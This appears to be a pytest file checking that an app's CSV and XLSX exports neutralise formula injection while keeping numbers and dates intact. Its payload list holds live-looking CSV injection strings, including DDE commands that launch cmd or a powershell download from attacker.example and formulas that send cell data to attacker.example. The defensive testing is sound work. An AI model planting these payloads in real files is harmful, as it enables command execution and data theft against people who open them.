"""ipdash.present.export: CSV and XLSX downloads cannot run formulas (OWASP CSV injection), keep
numbers and dates as they are, and are the only way the app and the CLI write them."""

from __future__ import annotations

import ast
import csv
import io
import re
import tomllib
from datetime import date, datetime

import openpyxl
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ipdash import paths
from ipdash.present import export
from ipdash.present.export import TRIGGERS, is_dangerous, neutralise, to_csv_bytes, to_xlsx_bytes

# Known payloads: OWASP's CSV injection page, PayloadsAllTheThings, published DDE and
# Google Sheets exfiltration write-ups, and their variants behind spaces, quotes,
# control and invisible characters, URL encoding and full-width forms.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C calc'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "=cmd|' /C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=HYPERLINK("http://attacker.example/?leak="&A2&B2,"Error: click for details")',
    '=HYPERLINK(CONCATENATE("http://attacker.example/",A1),"x")',
    '=IMPORTXML(CONCAT("http://attacker.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=IMPORTDATA("http://attacker.example/x.csv")',
    '=IMPORTHTML("http://attacker.example","table",1)',
    '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x","A1:B2")',
    '=IMAGE("http://attacker.example/pixel.png")',
    '=WEBSERVICE("http://attacker.example/?"&A1)',
    '=FILTERXML(WEBSERVICE("http://attacker.example"),"//x")',
    '=EXEC("calc.exe")',
    '=CALL("Kernel32","WinExec","JCJ","calc.exe",0)',
    "=1+1\n=2+2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "   +1+1",
    '"=1+1',
    "'=1+1",
    "\"'=1+1",
    " ' \" @SUM(1)",
    "|calc",
    "%0A=1+1",
    "%",
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte-order mark
    "\u202e=1+1",  # right-to-left override
    "\u00a0=1+1",  # no-break space
    "\u3000+1+1",  # ideographic space
    "＝1+1",  # full-width equals sign: neutralised too (see ipdash/present/export.py)
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",  # small equals sign
    "＂=1+1",  # full-width quote before the payload
]

ORDINARY = pl.DataFrame(
    {
        "measure_id": ["2012-001", "2020-041", "2022-115"],
        "text": ["Improve the patent law.", "完善专利法律制度", 'A "quoted", multi\nline text'],
        "agencies": [["SIPO", "MOF"], [], None],
        "delta": [-3, 0, 12],
        "share": [-2.5, 0.125, None],
        "negative_as_text": ["-5", "-0.5", "-1e3"],
        "issued": [date(2012, 4, 6), None, date(2021, 7, 1)],
        "note": [None, "", "2012-04-06"],
    }
)


def payload_frame() -> pl.DataFrame:
    """Every payload as a value, and as a header of its own column."""
    columns = {"payload": PAYLOADS, "n": list(range(len(PAYLOADS)))}
    columns |= {f"{p}#{i}": ["x"] * len(PAYLOADS) for i, p in enumerate(PAYLOADS)}
    return pl.DataFrame(columns)


def read_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def xlsx_cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        assert not sheet._hyperlinks
        for row in sheet.iter_rows():
            yield from row


def test_there_are_at_least_forty_payloads():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_dangerous_and_neutralised_with_a_quote(payload):
    assert is_dangerous(payload)
    assert neutralise(payload) == "'" + payload
    assert neutralise(payload)[0] not in TRIGGERS


@pytest.mark.parametrize(
    "safe",
    [
        "",
        "Improve the patent law.",
        "完善专利法律制度",
        "1+1",
        "2012-04-06",
        "a=b",
        "SIPO; MOF",
        "(lead) SIPO",
        "−1+1",  # U+2212 minus sign is no formula trigger
        "-5",
        "-0.5",
        "-.5",
        "-1e3",
        "12",
    ],
)
def test_ordinary_text_and_plain_numbers_are_left_alone(safe):
    assert neutralise(safe) == safe


def test_csv_cells_and_headers_never_start_a_formula():
    rows = read_csv(to_csv_bytes(payload_frame()))
    assert len(rows) == len(PAYLOADS) + 1
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c and c[0] in TRIGGERS] == []
    assert [c for c in cells if is_dangerous(c) and not c.startswith("'")] == []
    assert rows[0][0] == "payload"
    assert rows[0][2] == "'" + PAYLOADS[0] + "#0"
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]


def is_plain_negative_number(cell: str) -> bool:
    return bool(re.fullmatch(r"-[0-9.eE+-]+", cell)) and not is_dangerous(cell)


@given(st.lists(st.text(max_size=40) | st.sampled_from(PAYLOADS), min_size=1, max_size=6))
def test_any_text_exports_with_no_cell_that_could_start_a_formula(values):
    frame = pl.DataFrame({v or f"h{i}": [v] for i, v in enumerate(dict.fromkeys(values))})
    rows = read_csv(to_csv_bytes(frame))
    assert rows[1] == [neutralise(v) for v in frame.row(0)]
    assert rows[0] == [neutralise(c) for c in frame.columns]
    cells = [c for row in rows for c in row]
    assert [c for c in cells if c and c[0] in TRIGGERS and not is_plain_negative_number(c)] == []
    book = list(xlsx_cells(to_xlsx_bytes(frame)))
    assert [c.coordinate for c in book if c.data_type == "f" or c.hyperlink is not None] == []
    texts = [c.value for c in book if isinstance(c.value, str) and c.value]
    assert [t for t in texts if t[0] in TRIGGERS and not is_plain_negative_number(t)] == []


def test_csv_text_fields_are_quoted_so_another_delimiter_cannot_split_them():
    data = to_csv_bytes(pl.DataFrame({"t": ["a;=1+1", "b\t+1"], "n": [1, -2]}))
    assert data.decode("utf-8") == '\ufeff"t","n"\r\n"a;=1+1",1\r\n"b\t+1",-2\r\n'


def test_xlsx_has_no_formula_no_link_and_no_live_payload():
    data = to_xlsx_bytes(
        payload_frame(), about=[(p, p) for p in PAYLOADS], column_notes={p: p for p in PAYLOADS}
    )
    cells = list(xlsx_cells(data))
    assert len(cells) >= (len(PAYLOADS) + 2) * (len(PAYLOADS) + 1)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.coordinate for c in cells if c.hyperlink is not None] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if t[0] in TRIGGERS] == []
    assert [t for t in texts if is_dangerous(t) and not t.startswith("'")] == []
    assert sum(t.startswith("'") for t in texts) >= 4 * len(PAYLOADS)


def test_xlsx_workbook_settings_never_turn_strings_into_formulas_links_or_numbers(monkeypatch):
    seen = {}
    original = export.xlsxwriter.Workbook

    def spy(buffer, options):
        seen.update(options)
        return original(buffer, options)

    monkeypatch.setattr(export.xlsxwriter, "Workbook", spy)
    to_xlsx_bytes(ORDINARY)
    assert (seen["strings_to_formulas"], seen["strings_to_urls"], seen["strings_to_numbers"]) == (
        False,
        False,
        False,
    )


def test_csv_round_trip_of_ordinary_data():
    rows = read_csv(to_csv_bytes(ORDINARY))
    assert rows == [
        ["measure_id", "text", "agencies", "delta", "share", "negative_as_text", "issued", "note"],
        ["2012-001", "Improve the patent law.", "SIPO; MOF", "-3", "-2.5", "-5", "2012-04-06", ""],
        ["2020-041", "完善专利法律制度", "", "0", "0.125", "-0.5", "", ""],
        [
            "2022-115",
            'A "quoted", multi\nline text',
            "",
            "12",
            "",
            "-1e3",
            "2021-07-01",
            "2012-04-06",
        ],
    ]


def test_xlsx_round_trip_keeps_numbers_numbers_and_dates_dates():
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(ORDINARY, about=[("rows", "3")])))
    sheet = book["data"]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values == [
        ["measure_id", "text", "agencies", "delta", "share", "negative_as_text", "issued", "note"],
        [
            "2012-001",
            "Improve the patent law.",
            "SIPO; MOF",
            -3,
            -2.5,
            "-5",
            datetime(2012, 4, 6),
            None,
        ],
        ["2020-041", "完善专利法律制度", "", 0, 0.125, "-0.5", None, ""],
        [
            "2022-115",
            'A "quoted", multi\nline text',
            None,
            12,
            None,
            "-1e3",
            datetime(2021, 7, 1),
            "2012-04-06",
        ],
    ]
    assert [sheet.cell(2, c).data_type for c in range(1, 9)] == [
        "s",
        "s",
        "s",
        "n",
        "n",
        "s",
        "d",
        "n",
    ]
    assert [[c.value for c in row] for row in book["about"].iter_rows()] == [["rows", "3"]]


def test_xlsx_survives_what_a_spreadsheet_cannot_hold():
    frame = pl.DataFrame(
        {
            "x": [float("nan"), float("-inf"), 1.0],
            "when": [datetime(2020, 1, 1, 12, 30)] * 3,
            "long": ["y" * 40_000, "\x00\x07 control", "ok"],
        }
    ).with_columns(pl.col("when").dt.replace_time_zone("UTC"))
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame, sheet_name="a/b:c*?[d]")))
    sheet = book.worksheets[0]
    assert sheet.title == "a_b_c___d_"
    assert [sheet.cell(r, 1).value for r in (2, 3, 4)] == [None, "'-inf", 1]
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    assert sheet.cell(2, 2).value == datetime(2020, 1, 1, 12, 30)


def test_every_csv_in_a_download_zip_is_neutralised_too():
    """The table and its dictionary in a "Download CSV" zip: payloads as values, as
    headers and as column notes give no cell that starts a formula."""
    import zipfile

    notes = {f"{p}#{i}": p for i, p in enumerate(PAYLOADS)}
    data = export.csv_zip_bytes(payload_frame(), "x", "=cmd|' /C calc'!A0", "=1+1", {}, notes)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.namelist() == ["x.csv", "x-dictionary.csv", "README.txt"]
        for name in ("x.csv", "x-dictionary.csv"):
            rows = read_csv(archive.read(name))
            assert len(rows) > len(PAYLOADS)
            cells = [cell for row in rows for cell in row]
            assert [c for c in cells if c and c[0] in TRIGGERS] == []
            assert [c for c in cells if is_dangerous(c) and not c.startswith("'")] == []


def test_the_app_and_the_cli_write_csv_and_xlsx_only_through_ipdash_export():
    """No other module imports a CSV or spreadsheet writer or calls a frame's writer;
    the app and the CLI hand frames to ipdash.present.export."""
    # Manifests are data files ipdash reads back, not downloads (neutralising would change
    # the data): intake.py writes data/raw/manifest.csv, synth.py a synthetic corpus's.
    allowed = {"intake.py", "synth.py"}
    writers = {"xlsxwriter", "openpyxl"}
    frame_writers = {"write_csv", "write_excel", "to_csv", "to_excel"}
    offenders = []
    files = [
        *sorted((paths.ROOT / "ipdash").rglob("*.py")),
        *sorted((paths.ROOT / "pages").glob("*.py")),
        paths.ROOT / "app.py",
    ]
    for path in files:
        if path.name == "export.py" or path.name in allowed:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
                offenders += [
                    f"{path.name}:{node.lineno} imports {n}"
                    for n in names
                    if n.split(".")[0] in writers
                ]
            if isinstance(node, ast.Attribute) and node.attr in frame_writers:
                offenders.append(f"{path.name}:{node.lineno} calls .{node.attr}")
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{path.name}:{node.lineno} uses csv.{node.attr}")
    assert offenders == []
    cli = (paths.ROOT / "ipdash" / "cli.py").read_text(encoding="utf-8")
    tables = (paths.ROOT / "ipdash" / "web" / "tables.py").read_text(encoding="utf-8")
    for source in (cli, tables):
        assert "export.csv_zip_bytes(" in source
        assert "export.to_xlsx_bytes(" in source


def test_streamlits_own_table_download_is_switched_off():
    """st.dataframe's toolbar offers a CSV download (and copy) that does not neutralise
    formulas: the app turns it off, so every download goes through ipdash.present.export."""
    config = tomllib.loads((paths.ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
